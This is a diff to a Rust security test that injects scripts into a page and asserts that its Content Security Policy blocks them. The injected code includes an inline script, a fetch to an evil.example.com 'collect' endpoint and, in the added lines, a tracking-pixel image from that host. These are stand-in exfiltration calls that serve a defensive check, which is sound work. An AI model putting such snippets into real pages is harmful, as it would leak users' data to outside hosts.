@@ -162,6 +162,8 @@ async fn no_secret_leaves_the_keychain_csp_and_capabilities_hold() {
                  const inline = document.createElement('script'); inline.textContent = 'window.__sdPwned = 1;'; \
                  document.head.appendChild(inline); \
                  fetch('https://evil.example.com/collect').catch(() => {}); \
+                 const pixel = document.createElement('img'); pixel.src = 'https://evil.example.com/pixel.png'; \
+                 document.body.appendChild(pixel); \
                  setTimeout(() => done({ violations, policy, pwned: window.__sdPwned === 1 }), 1000);",
                 vec![],
             )
@@ -180,6 +182,7 @@ async fn no_secret_leaves_the_keychain_csp_and_capabilities_hold() {
             ("the remote script", "script-src", "evil.example.com"),
             ("the inline script", "script-src", "inline"),
             ("the fetch elsewhere", "connect-src", "evil.example.com"),
+            ("an image from another host (issue 11, finding 9)", "img-src", "evil.example.com"),
         ] {
             assert!(
                 violations.iter().any(|v| v.starts_with(directive) && v.contains(uri)),
